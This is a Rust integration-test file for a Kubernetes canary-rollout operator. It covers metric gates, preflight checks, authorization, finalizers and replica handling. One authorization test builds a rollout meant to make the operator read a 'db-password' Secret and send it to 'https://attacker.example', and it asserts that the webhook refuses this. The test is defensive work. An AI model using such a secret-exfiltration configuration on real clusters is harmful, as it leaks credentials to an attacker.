    let prom = prometheus(None).await;
    let mut release = Release::install("distroless-guard-oneoff", &[]).await;
    let ns = release.namespace("oneoff", &[]).await;
    let standard = format!("registry.test/{ns}/web:1");
    app(&ns, "web", 2, &standard, Value::Null).await;
    web_to_distroless(
        &ns,
        json!({"steps": [{"weight": 50, "bakeSeconds": 300}, {"weight": 100}],
               "metrics": [{"name": "errors", "address": prom.address, "query": "app_error_ratio", "threshold": 0.05}]}),
    )
    .await;
    let baking = wait_for("the step to bake", Duration::from_secs(60), || async {
        status(&ns, "web").await.filter(|s| s["stepReadyAt"].is_string())
    })
    .await;
    let canary = baking["canary"]["replicaSet"].as_str().unwrap().to_string();
    // The operator may no longer scale ReplicaSets: whatever it decides, it
    // can only write down, not carry out.
    let role = get_json(&[
        "clusterrole",
        "-l",
        &format!("app.kubernetes.io/instance={}", release.name),
    ])
    .await
    .unwrap()["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| {
            r["rules"].as_array().unwrap().iter().any(|rule| {
                rule["resources"] == json!(["replicasets"])
                    && rule["verbs"].as_array().unwrap().contains(&json!("patch"))
            })
        })
        .expect("the chart's ClusterRole that patches ReplicaSets")
        .clone();
    replica_set_verbs(&role, Some("patch")).await;
    // One spike, seen once, then gone.
    *prom.errors.lock().unwrap() = 0.4;
    let decided = wait_phase(&ns, "web", "RolledBack", 60).await;
    *prom.errors.lock().unwrap() = 0.0;
    assert_eq!(decided["failure"]["reason"], "MetricGate", "{decided:#}");
    let rs = get_json(&["replicaset", &canary, "-n", &ns]).await.unwrap();
    assert_ne!(
        rs["spec"]["replicas"], 0,
        "the canary is still up: the decision was written first"
    );
    // Killed now, and a new operator with its rights back: the spike is gone,
    // the decision is not.
    release.stop_operators();
    replica_set_verbs(&role, None).await;
    release.start_operators().await.unwrap();
    wait_for("the canary scaled down", Duration::from_secs(60), || async {
        let rs = get_json(&["replicaset", &canary, "-n", &ns]).await?;
        (rs["spec"]["replicas"] == 0).then_some(())
    })
    .await;
    let s = status(&ns, "web").await.unwrap();
    assert_eq!(
        (s["phase"].clone(), s["failure"]["reason"].clone()),
        (json!("RolledBack"), json!("MetricGate")),
        "{s:#}"
    );
    let d = get_json(&["deployment", "web", "-n", &ns]).await.unwrap();
    assert_eq!(image_of(&d), standard);
    let _ = release.uninstall().await;
    kubectl_ok(&["delete", "namespace", &ns, "--wait=false"]).await;
}

#[tokio::test]
async fn a_canary_image_that_runs_as_root_in_a_restricted_namespace_is_stopped_before_any_pod_exists() {
    use crate::registry::{Blob, Compression, Image, Layer, TestRegistry, push};
    let registry = TestRegistry::start();
    let host = registry.host();
    let release = Release::install_inspecting("distroless-guard-pre", &host).await;
    let ns = release
        .namespace("preflight", &[("pod-security.kubernetes.io/enforce", "restricted")])
        .await;
    let app_layer = || Layer::new().file("app", b"ELF").tar();
    let standard = registry.image(&format!("{ns}/web:1"));
    push(
        &standard,
        &Image::new(vec![Blob::layer(app_layer(), Compression::Gzip)]).user("65532"),
    )
    .await;
    // The "distroless" build forgot its nonroot user.
    let root = registry.image(&format!("{ns}/web:1-distroless"));
    push(
        &root,
        &Image::new(vec![Blob::layer(app_layer(), Compression::Gzip)]).user("0"),
    )
    .await;
    let restricted = json!({"runAsNonRoot": true, "allowPrivilegeEscalation": false,
        "capabilities": {"drop": ["ALL"]}, "seccompProfile": {"type": "RuntimeDefault"}});
    app(&ns, "web", 2, &standard, restricted).await;
    create_rollout(&ns, "web", "web", &root, Value::Null).await;
    let s = wait_phase(&ns, "web", "RolledBack", 60).await;
    let f = &s["failure"];
    assert_eq!(f["reason"], "PreflightFailed", "{s:#}");
    assert!(f["message"].as_str().unwrap().contains("runs as root"), "{f}");
    assert_eq!(s["preflight"]["passed"], false);
    let rs = get_json(&["replicasets", "-n", &ns, "-l", "distrolessguard.dev/rollout=web"])
        .await
        .unwrap();
    assert!(
        rs["items"].as_array().unwrap().is_empty(),
        "a canary ReplicaSet was created: {rs:#}"
    );
    assert!(canary_pods(&ns, "web").await.is_empty());
    let warning = events_of(&ns, "web")
        .await
        .into_iter()
        .find(|e| e["reason"] == "RolledBack");
    assert!(warning.is_some_and(|e| e["type"] == "Warning"));
    let _ = release.uninstall().await;
    kubectl_ok(&["delete", "namespace", &ns, "--wait=false"]).await;
}

#[tokio::test]
async fn with_prometheus_down_the_step_holds_and_then_rolls_back_instead_of_promoting() {
    // A port this process holds and nobody listens on (see free_port):
    // every reading is "connection refused".
    let address = format!("http://127.0.0.1:{}", testcluster::free_port());
    let release = Release::install("distroless-guard-promdown", &[]).await;
    let ns = release.namespace("promdown", &[]).await;
    let standard = format!("registry.test/{ns}/web:1");
    app(&ns, "web", 2, &standard, Value::Null).await;
    web_to_distroless(
        &ns,
        // A one-second bake: an unreadable gate must still hold it.
        json!({"steps": [{"weight": 50, "bakeSeconds": 1}, {"weight": 100}],
               "metrics": [{"name": "errors", "address": address, "query": "app_error_ratio",
                            "threshold": 0.05, "consecutiveErrorLimit": 2}]}),
    )
    .await;
    let held = wait_metric_error(&ns, "the step held on the unread gate").await;
    assert_eq!(held["currentStep"], 0, "{held:#}");
    assert!(held["message"].as_str().unwrap().contains("the step holds"), "{held:#}");
    let s = wait_phase(&ns, "web", "RolledBack", 90).await;
    assert_eq!(s["failure"]["reason"], "MetricUnavailable", "{s:#}");
    assert!(
        s["failure"]["message"].as_str().unwrap().contains("3 times in a row"),
        "{s:#}"
    );
    let d = get_json(&["deployment", "web", "-n", &ns]).await.unwrap();
    assert_eq!(image_of(&d), standard, "the Deployment moved on an unreadable gate");
    let _ = release.uninstall().await;
    kubectl_ok(&["delete", "namespace", &ns, "--wait=false"]).await;
}

/// A user `alice` (group `devs`) who may create and change DistrolessRollouts
/// in `ns` and patch only the Deployment named `may_patch`.
async fn restricted_user(ns: &str, may_patch: &str) {
    let rbac = json!({"apiVersion": "v1", "kind": "List", "items": [
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
         "metadata": {"name": "rollout-author", "namespace": ns},
         "rules": [
            {"apiGroups": ["distrolessguard.dev"], "resources": ["distrolessrollouts"],
             "verbs": ["get", "list", "create", "update", "patch"]},
            {"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["get", "list"]},
            {"apiGroups": ["apps"], "resources": ["deployments"], "resourceNames": [may_patch], "verbs": ["patch"]}]},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
         "metadata": {"name": "rollout-author", "namespace": ns},
         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "rollout-author"},
         "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "alice"}]}]});
    let out = kubectl_stdin(&["apply", "-f", "-"], &rbac.to_string()).await;
    assert!(out.status.success(), "{}", text(&out).1);
}

#[tokio::test]
async fn a_user_who_may_not_patch_a_deployment_cannot_create_or_retarget_a_rollout_onto_it() {
    let release = Release::install("distroless-guard-authz", &[]).await;
    let ns = release.namespace("authz", &[]).await;
    let payments = format!("registry.test/{ns}/payments:1");
    app(&ns, "web", 1, &format!("registry.test/{ns}/web:1"), Value::Null).await;
    app(&ns, "payments", 1, &payments, Value::Null).await;
    restricted_user(&ns, "web").await;
    let as_alice = ["--as=alice", "--as-group=devs", "--as-group=system:authenticated"];
    let rollout = |name: &str, target: &str| {
        json!({"apiVersion": "distrolessguard.dev/v1alpha1", "kind": "DistrolessRollout",
            "metadata": {"name": name, "namespace": ns},
            "spec": {"targetRef": {"name": target},
                     "containers": [{"name": "app", "image": format!("registry.test/{ns}/{target}:1-distroless")}],
                     "steps": [{"staging": {"replicas": 1}, "pause": true}]}})
        .to_string()
    };
    // RBAC lets alice create rollouts, so the refusal can only be the webhook's.
    let mut create = vec!["create", "-f", "-"];
    create.extend(as_alice);
    let out = kubectl_stdin(&create, &rollout("steal", "payments")).await;
    let (_, err) = text(&out);
    assert!(!out.status.success(), "alice created a rollout of payments");
    assert!(
        err.contains("rollouts.distrolessguard.dev") && err.contains("may not patch deployments/payments"),
        "{err}"
    );
    // Nor may she have the operator read a Secret she cannot read, and send
    // it to an address of her choosing.
    let mut gated: Value = serde_json::from_str(&rollout("exfiltrate", "web")).unwrap();
    gated["spec"]["metrics"] = json!([{"name": "e", "address": "https://attacker.example", "query": "up",
        "threshold": 1, "auth": {"secretName": "db-password", "tokenKey": "password"}}]);
    let out = kubectl_stdin(&create, &gated.to_string()).await;
    let (_, err) = text(&out);
    assert!(!out.status.success(), "alice named a Secret she cannot read");
    assert!(err.contains("may not get secrets/db-password"), "{err}");
    let out = kubectl_stdin(&create, &rollout("mine", "web")).await;
    assert!(out.status.success(), "alice may roll out web: {}", text(&out).1);
    // Retargeting her own rollout onto payments is refused the same way.
    let mut retarget = vec![
        "patch",
        "distrolessrollout",
        "mine",
        "-n",
        &ns,
        "--type=merge",
        "-p",
        r#"{"spec":{"targetRef":{"name":"payments"}}}"#,
    ];
    retarget.extend(as_alice);
    let out = kubectl(&retarget).await;
    let (_, err) = text(&out);
    assert!(!out.status.success(), "alice retargeted her rollout onto payments");
    assert!(err.contains("may not patch deployments/payments"), "{err}");
    // A verb is an action on the Deployment too; on her own rollout it is hers to take.
    let mut pause = vec![
        "annotate",
        "distrolessrollout",
        "mine",
        "-n",
        &ns,
        "distrolessguard.dev/paused=true",
    ];
    pause.extend(as_alice);
    kubectl_ok(&pause).await;
    let r = get_json(&["distrolessrollout", "mine", "-n", &ns]).await.unwrap();
    assert_eq!(
        r["spec"]["targetRef"]["name"], "web",
        "the refused patch changed nothing"
    );
    let d = get_json(&["deployment", "payments", "-n", &ns]).await.unwrap();
    assert_eq!(image_of(&d), payments);
    assert!(get_json(&["distrolessrollout", "steal", "-n", &ns]).await.is_none());
    let _ = release.uninstall().await;
    kubectl_ok(&["delete", "namespace", &ns, "--wait=false"]).await;
}

#[tokio::test]
async fn a_rollout_deleted_mid_promotion_puts_the_standard_images_back_before_it_goes() {
    let release = Release::install("distroless-guard-final", &[]).await;
    let ns = release.namespace("final", &[]).await;
    let standard = format!("registry.test/{ns}/web:1");
    app(&ns, "web", 2, &standard, Value::Null).await;
    web_to_distroless(
        &ns,
        json!({"steps": [{"weight": 50, "bakeSeconds": 1}, {"weight": 100, "bakeSeconds": 3600}]}),
    )
    .await;
    // Promoted and baking at 100%: the Deployment runs our patched images.
    wait_for("the promotion's bake", Duration::from_secs(90), || async {
        let r = get_json(&["distrolessrollout", "web", "-n", &ns]).await?;
        (r["status"]["message"].as_str()?.contains("bake of 3600 s")).then_some(())
    })
    .await;
    let r = get_json(&["distrolessrollout", "web", "-n", &ns]).await.unwrap();
    assert_eq!(
        r["metadata"]["finalizers"],
        json!(["distrolessguard.dev/restore-standard-images"]),
        "{r:#}"
    );
    let d = get_json(&["deployment", "web", "-n", &ns]).await.unwrap();
    assert_ne!(image_of(&d), standard);
    // `kubectl delete` returns once the rollout is gone, which the finalizer
    // allows only after the standard images are back.
    kubectl_ok(&["delete", "distrolessrollout", "web", "-n", &ns, "--timeout=60s"]).await;
    let d = get_json(&["deployment", "web", "-n", &ns]).await.unwrap();
    assert_eq!(image_of(&d), standard, "deleted with the Deployment half-moved");
    let _ = release.uninstall().await;
    kubectl_ok(&["delete", "namespace", &ns, "--wait=false"]).await;
}

#[tokio::test]
async fn preflight_reads_only_the_moved_containers_images_so_a_sidecar_with_a_shell_does_not_stop_the_rollout() {
    use crate::registry::{Blob, Compression, Image, Layer, TestRegistry, push};
    let registry = TestRegistry::start();
    let host = registry.host();
    let release = Release::install_inspecting("distroless-guard-side", &host).await;
    let ns = release.namespace("sidecar", &[]).await;
    let with_shell = || Layer::new().file("bin/sh", b"ELF").file("app", b"ELF").tar();
    let distroless_layer = || Layer::new().file("app", b"ELF").tar();
    let standard = registry.image(&format!("{ns}/web:1"));
    let distroless = registry.image(&format!("{ns}/web:1-distroless"));
    let sidecar = registry.image(&format!("{ns}/proxy:1"));
    for (image, layer) in [
        (&standard, with_shell()),
        (&distroless, distroless_layer()),
        (&sidecar, with_shell()),
    ] {
        push(
            image,
            &Image::new(vec![Blob::layer(layer, Compression::Gzip)]).user("65532"),
        )
        .await;
    }
    let d = json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "web", "namespace": ns},
        "spec": {"replicas": 2, "selector": {"matchLabels": {"app": "web"}},
                 "template": {"metadata": {"labels": {"app": "web"}}, "spec": {"containers": [
                    {"name": "app", "image": standard}, {"name": "proxy", "image": sidecar}]}}}});
    let out = kubectl_stdin(&["apply", "-f", "-"], &d.to_string()).await;
    assert!(out.status.success(), "{}", text(&out).1);
    create_rollout(
        &ns,
        "web",
        "web",
        &distroless,
        json!({"steps": [{"staging": {"replicas": 1}, "pause": true}]}),
    )
    .await;
    let s = wait_phase(&ns, "web", "Paused", 60).await;
    let preflight = &s["preflight"];
    assert_eq!(preflight["passed"], true, "{s:#}");
    let message = preflight["message"].as_str().unwrap();
    assert!(
        message.contains(&distroless) && !message.contains(&sidecar),
        "{message}"
    );
    let _ = release.uninstall().await;
    kubectl_ok(&["delete", "namespace", &ns, "--wait=false"]).await;
}

/// `spec.replicas` of a Deployment.
async fn replicas_of(ns: &str, deployment: &str) -> Value {
    get_json(&["deployment", deployment, "-n", ns]).await.unwrap()["spec"]["replicas"].clone()
}

#[tokio::test]
async fn a_canary_taking_from_the_deployment_keeps_the_serving_count_and_every_exit_gives_the_replicas_back() {
    let release = Release::install("distroless-guard-take", &[]).await;
    let ns = release.namespace("take", &[]).await;
    let take = |steps: Value| json!({"canaryCapacity": "FromDeployment", "steps": steps});
    // 50% of 4: two canary pods serve in place of two of the Deployment's.
    app(&ns, "web", 4, &format!("registry.test/{ns}/web:1"), Value::Null).await;
    web_to_distroless(&ns, take(json!([{"weight": 50, "pause": true}, {"weight": 100}]))).await;
    // As the canary's pods turn ready the Deployment goes from 4 to 2 (through
    // 3 when one is ready first); each count is written to the status before
    // its scale is made, so the wait is for both.
    let s = wait_for("the Deployment scaled to 2", Duration::from_secs(60), || async {
        let s = status(&ns, "web").await?;
        let recorded = s["stableScale"]["held"] == true && s["stableScale"]["scaledTo"] == 2;
        (recorded && replicas_of(&ns, "web").await == 2).then_some(s)
    })
    .await;
    assert_eq!(s["stableScale"]["replicas"], 4, "{s:#}");
    let r = get_json(&["distrolessrollout", "web", "-n", &ns]).await.unwrap();
    assert_eq!(
        r["metadata"]["finalizers"],
        json!(["distrolessguard.dev/restore-standard-images"]),
        "{r:#}"
    );
    let canary: Vec<String> = canary_pods(&ns, "web")
        .await
        .iter()
        .filter_map(|p| p["status"]["podIP"].as_str().map(str::to_string))
        .collect();
    assert_eq!(canary.len(), 2);
    let serving = wait_for(
        "4 ready endpoints, 2 of them canary",
        Duration::from_secs(30),
        || async {
            let ready = ready_endpoints(&ns, "web").await;
            (ready.len() == 4).then_some(ready)
        },
    )
    .await;
    assert_eq!(
        serving.iter().filter(|ip| canary.contains(ip)).count(),
        2,
        "{serving:?}"
    );
    // Someone scales the Deployment by hand: their number stands, the canary
    // adds its pods instead (3 beside 3 for 50%).
    kubectl_ok(&["scale", "deployment/web", "-n", &ns, "--replicas=3"]).await;
    let s = wait_for("the canary to add its pods", Duration::from_secs(30), || async {
        status(&ns, "web").await.filter(|s| s["canary"]["replicas"] == 3)
    })
    .await;
    assert_eq!(s["capacityReleased"], true, "{s:#}");
    assert!(s["stableScale"].is_null(), "{s:#}");
    assert_eq!(
        replicas_of(&ns, "web").await,
        3,
        "the operator overwrote the hand-set replicas"
    );
    let reasons: Vec<String> = events_of(&ns, "web")
        .await
        .iter()
        .filter_map(|e| e["reason"].as_str().map(str::to_string))
        .collect();
    assert!(reasons.contains(&"CapacityTaken".to_string()), "{reasons:?}");
    assert!(reasons.contains(&"CapacityReleased".to_string()), "{reasons:?}");

    // An abort puts the Deployment's own replicas back and lets the rollout go.
    app(&ns, "api", 4, &format!("registry.test/{ns}/api:1"), Value::Null).await;
    create_rollout(
        &ns,
        "api",
        "api",
        &format!("registry.test/{ns}/api:1-distroless"),
        take(json!([{"weight": 25, "pause": true}, {"weight": 100}])),
    )
    .await;
    wait_for("the api Deployment scaled to 3", Duration::from_secs(60), || async {
        let s = status(&ns, "api").await?;
        (s["stableScale"]["held"] == true).then_some(())
    })
    .await;
    assert_eq!(replicas_of(&ns, "api").await, 3);
    kubectl_ok(&[
        "annotate",
        "distrolessrollout",
        "api",
        "-n",
        &ns,
        "distrolessguard.dev/abort=true",
    ])
    .await;
    let s = wait_phase(&ns, "api", "RolledBack", 60).await;
    let s = if s["stableScale"].is_null() {
        s
    } else {
        wait_for("the replicas confirmed back", Duration::from_secs(30), || async {
            status(&ns, "api").await.filter(|s| s["stableScale"].is_null())
        })
        .await
    };
    assert_eq!(s["failure"]["reason"], "Aborted");
    assert_eq!(replicas_of(&ns, "api").await, 4);
    wait_for("the finalizer removed", Duration::from_secs(30), || async {
        let r = get_json(&["distrolessrollout", "api", "-n", &ns]).await?;
        r["metadata"]["finalizers"].is_null().then_some(())
    })
    .await;

    // A HorizontalPodAutoscaler owns the replicas: refused before any pod exists.
    app(&ns, "scaled", 2, &format!("registry.test/{ns}/scaled:1"), Value::Null).await;
    let hpa = json!({"apiVersion": "autoscaling/v2", "kind": "HorizontalPodAutoscaler",
        "metadata": {"name": "scaled", "namespace": ns},
        "spec": {"scaleTargetRef": {"apiVersion": "apps/v1", "kind": "Deployment", "name": "scaled"},
                 "minReplicas": 2, "maxReplicas": 2,
                 "metrics": [{"type": "Resource", "resource": {"name": "cpu", "target": {"type": "Utilization", "averageUtilization": 80}}}]}});
    let out = kubectl_stdin(&["create", "-f", "-"], &hpa.to_string()).await;
    assert!(out.status.success(), "{}", text(&out).1);
    create_rollout(
        &ns,
        "scaled",
        "scaled",
        &format!("registry.test/{ns}/scaled:1-distroless"),
        take(json!([{"weight": 50}, {"weight": 100}])),
    )
    .await;
    let s = wait_phase(&ns, "scaled", "RolledBack", 60).await;
    assert_eq!(s["failure"]["reason"], "PreflightFailed", "{s:#}");
    assert!(
        s["failure"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("HorizontalPodAutoscaler scaled")),
        "{s:#}"
    );
    assert!(canary_pods(&ns, "scaled").await.is_empty());
    assert_eq!(replicas_of(&ns, "scaled").await, 2);
    let _ = release.uninstall().await;
    kubectl_ok(&["delete", "namespace", &ns, "--wait=false"]).await;
}
